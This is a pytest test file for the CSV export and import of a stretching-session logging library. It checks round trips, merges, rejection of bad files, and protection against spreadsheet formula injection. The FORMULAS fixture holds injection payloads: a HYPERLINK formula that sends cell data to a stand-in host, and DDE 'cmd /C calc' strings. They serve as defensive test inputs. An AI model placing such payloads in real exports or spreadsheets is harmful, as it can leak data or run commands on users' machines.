"""CSV export and import: exact round trips, idempotent merges, bad files refused whole."""

from __future__ import annotations

import csv
import sqlite3
import stat
from pathlib import Path

import pandas as pd
import pytest

from backstretch_kit.log import LogError, SessionLog, _schema

from .records import T0, dump, fill


@pytest.fixture
def log(sqlite_log: SessionLog) -> SessionLog:
    """CSV export and import are SQLite-only for now."""
    return sqlite_log


def test_export_import_round_trip_is_exact_and_idempotent(log: SessionLog, tmp_path: Path) -> None:
    """Export then import into a new log gives identical frames; importing twice adds nothing."""
    fill(log)
    out = log.export_csv(tmp_path / "export")
    assert sorted(out) == ["holds", "people", "sessions"]
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in out.values())
    with SessionLog(tmp_path / "copy.sqlite") as copy:
        assert copy.import_csv(tmp_path / "export") == {"people": 2, "sessions": 3, "holds": 7}
        assert copy.import_csv(tmp_path / "export") == {"people": 0, "sessions": 0, "holds": 0}
        pd.testing.assert_frame_equal(copy.sessions(), log.sessions())
        pd.testing.assert_frame_equal(copy.holds(), log.holds())
        pd.testing.assert_frame_equal(copy.daily_totals(), log.daily_totals())
        assert copy.people() == log.people()
        assert copy.routine_snapshot(1) == log.routine_snapshot(1)
        copy.export_csv(tmp_path / "again")
    for name in ("people", "sessions", "holds"):
        assert (tmp_path / "again" / f"{name}.csv").read_bytes() == out[name].read_bytes()


def test_import_merges_into_a_log_with_other_data(log: SessionLog, tmp_path: Path) -> None:
    """Importing into a log that already has sessions adds them under new ids, once."""
    fill(log)
    log.export_csv(tmp_path / "export")
    with SessionLog(tmp_path / "other.sqlite") as other:
        other.log_activity("someone else", "sphinx", 60, when=T0)
        assert other.import_csv(tmp_path / "export")["holds"] == 7
        assert other.import_csv(tmp_path / "export")["holds"] == 0
        assert len(other.holds()) == 8 and len(other.sessions("client A")) == 2
        mine = log.holds().drop(columns=["hold_id", "session_id"]).reset_index(drop=True)
        theirs = other.holds().query("person != 'someone else'")
        theirs = theirs.drop(columns=["hold_id", "session_id"]).reset_index(drop=True)
        pd.testing.assert_frame_equal(theirs, mine)


def _edit(folder: Path, name: str, line: int, field: str, value: str) -> None:
    path = folder / f"{name}.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    rows[line - 1][rows[0].index(field)] = value
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


# case -> (file, line, field, bad value); the error must name file, line and field.
BAD_CSV = {
    "pain out of range": ("sessions", 2, "pain_before", "11"),
    "pain not a number": ("sessions", 2, "pain_after", "a lot"),
    "naive time": ("holds", 3, "started_at", "2026-03-02T09:00:00"),
    "hold too long": ("holds", 2, "actual_s", "900"),
    "bad side": ("holds", 4, "side", "up"),
    "bad flag": ("holds", 2, "completed", "yes"),
    "unknown session": ("holds", 2, "session_uuid", "00000000-0000-4000-8000-000000000000"),
    "unknown person": ("sessions", 3, "person", "ghost"),
    "bad uuid": ("sessions", 2, "session_uuid", "not-a-uuid"),
    "end before start": ("sessions", 2, "ended_at", "2026-03-01T09:00:00.000000+02:00"),
    "bad kind": ("sessions", 2, "kind", "class"),
    "empty person": ("people", 2, "person", ""),
    "duplicate id": ("sessions", 3, "session_id", "1"),
    "notes not text": ("sessions", 2, "notes", "x" * 10_001),
}


@pytest.mark.parametrize("case", sorted(BAD_CSV))
def test_bad_csv_names_file_line_field_and_writes_nothing(
    log: SessionLog, tmp_path: Path, case: str
) -> None:
    """A bad cell raises LogError naming file, line and field, and the target log is unchanged."""
    fill(log)
    log.export_csv(tmp_path / "export")
    name, line, field, value = BAD_CSV[case]
    message = rf"{name}\.csv, line {line}, field {field}"
    _edit(tmp_path / "export", name, line, field, value)
    with SessionLog(tmp_path / "target.sqlite") as target:
        target.log_activity("resident", "sphinx", 60, when=T0)
        before = dump(target.path)
        with pytest.raises(LogError, match=message):
            target.import_csv(tmp_path / "export")
        assert dump(target.path) == before


def test_import_refuses_missing_files_columns_and_conflicts(
    log: SessionLog, tmp_path: Path
) -> None:
    """Missing file, wrong header, or a known uuid with other contents: LogError, no writes."""
    fill(log)
    export = tmp_path / "export"
    log.export_csv(export)
    before = dump(log.path)
    _edit(export, "sessions", 2, "notes", "changed elsewhere")
    with pytest.raises(LogError, match=r"sessions\.csv, line 2: session .* different notes"):
        log.import_csv(export)
    (export / "holds.csv").write_text("hold_uuid,colour\n", encoding="utf-8")
    with pytest.raises(LogError, match=r"holds\.csv: .*missing hold_id.*unexpected colour"):
        log.import_csv(export)
    (export / "holds.csv").unlink()
    with pytest.raises(LogError, match=r"holds\.csv is missing"):
        log.import_csv(export)
    assert dump(log.path) == before


def test_import_keeps_both_totals_what_a_rebuild_gives(log: SessionLog, tmp_path: Path) -> None:
    """Imported holds reach the daily and the weekly totals exactly as recorded ones do."""
    fill(log)
    log.export_csv(tmp_path / "export")
    with SessionLog(tmp_path / "other.sqlite") as other:
        other.log_activity("someone else", "single-knee-to-chest", 60, when=T0)  # shares a week
        other.import_csv(tmp_path / "export")
    kept = dump(tmp_path / "other.sqlite")
    with sqlite3.connect(tmp_path / "other.sqlite") as conn:
        _schema.rebuild_totals(conn)
        for table in ("daily_totals", "weekly_totals"):
            assert conn.execute(f"SELECT * FROM {table} ORDER BY 1, 2").fetchall() == kept[table]


# Text a spreadsheet would run as a formula (or that starts with the quote
# that shields one), in every kind of text column.
FORMULAS = {
    "person": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "routine": "+1+cmd|' /C calc'!A0",
    "notes": ["@SUM(A1:A9)", "-2+3", "\tTabbed", "\r\nReturned", "'tis a quote", "''two"],
    "stretch": "=cmd|'/C calc'!A0",
}


def _cells_by_column(path: Path) -> dict[str, list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    return {name: [row[i] for row in rows[1:]] for i, name in enumerate(rows[0])}


def test_exported_text_cannot_start_a_formula_and_reads_back_exactly(
    log: SessionLog, tmp_path: Path
) -> None:
    """Cells starting with = + - @ tab CR (or ') get a leading quote; the import gives them back."""
    fill(log)
    person = FORMULAS["person"]
    for i, notes in enumerate(FORMULAS["notes"]):
        sid = log.start_session(person, FORMULAS["routine"], started_at=T0, notes=notes)
        log.record_hold(sid, FORMULAS["stretch"], "both", 1, 30, 30, started_at=T0)
        log.finish_session(sid, pain_after=i % 3)
    out = log.export_csv(tmp_path / "export")

    files = {name: _cells_by_column(path) for name, path in out.items()}
    for name, columns in files.items():
        for column, cells in columns.items():
            for cell in cells:  # what a spreadsheet sees first in each cell
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, cell)
    assert "'" + person in files["people"]["person"]
    assert "'" + FORMULAS["routine"] in files["sessions"]["routine_name"]
    assert "'" + FORMULAS["stretch"] in files["holds"]["stretch_id"]
    assert {"''tis a quote", "'''two", "'-2+3"} <= set(files["sessions"]["notes"])
    assert "felt looser" in files["sessions"]["notes"]  # plain text is written as it is

    with SessionLog(tmp_path / "copy.sqlite") as copy:
        copy.import_csv(tmp_path / "export")
        pd.testing.assert_frame_equal(copy.sessions(), log.sessions())
        pd.testing.assert_frame_equal(copy.holds(), log.holds())
        assert copy.people() == log.people()
        copy.export_csv(tmp_path / "again")
    for name in ("people", "sessions", "holds"):
        assert (tmp_path / "again" / f"{name}.csv").read_bytes() == out[name].read_bytes()


def test_numbers_and_times_are_never_quoted_and_a_lone_quote_is_kept() -> None:
    """Only text columns are shielded: -0.5 stays a number; "'hello" read in stays "'hello"."""
    from backstretch_kit.log import _csv, _csv_cells

    row = ("2b7c0e4e-1111-4c4c-9d9d-000000000001", 7, "-me", "routine", "-r", None)
    row += ("2026-03-02T04:00:00.000000-05:00", "", -0.5, 3.0, "-note")
    assert _csv_cells.cells("sessions", row) == [
        "2b7c0e4e-1111-4c4c-9d9d-000000000001", "7", "'-me", "routine", "'-r", "",
        "2026-03-02T04:00:00.000000-05:00", "", "-0.5", "3.0", "'-note",
    ]  # fmt: skip
    for text in ("'hello", "it's", "", "'", "''", "=", "'=", "plain"):
        assert _csv.unshield(_csv.shield(text)) == text
    assert _csv.unshield("'hello") == "'hello"  # a quote the export did not add stays
